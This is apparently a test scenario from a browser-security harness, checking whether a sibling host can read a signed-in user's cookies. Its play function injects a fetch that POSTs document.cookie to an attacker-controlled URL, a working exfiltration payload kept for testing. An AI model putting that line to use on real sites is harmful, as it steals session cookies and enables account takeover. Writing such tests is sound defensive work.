import { attack } from "../attack.js";

export default attack({
  name: "reads cookies from a sibling host",
  threat: "single-execution theft",
  target: "any",
  async play(stage) {
    await stage.openSignedIn();
    const page = stage.page("<!doctype html><title>Sibling</title>", "a sibling host");
    await stage.browser.goto(page);
    // The page sends the cookies that its own host can read to the attacker's server.
    await stage.browser.evaluate(
      (home) =>
        fetch(`${home}/cookies`, { method: "POST", mode: "no-cors", body: document.cookie }).then(() => {}),
      `${stage.facts.attackerUrl}${stage.attackerPath}`,
    );
  },
});
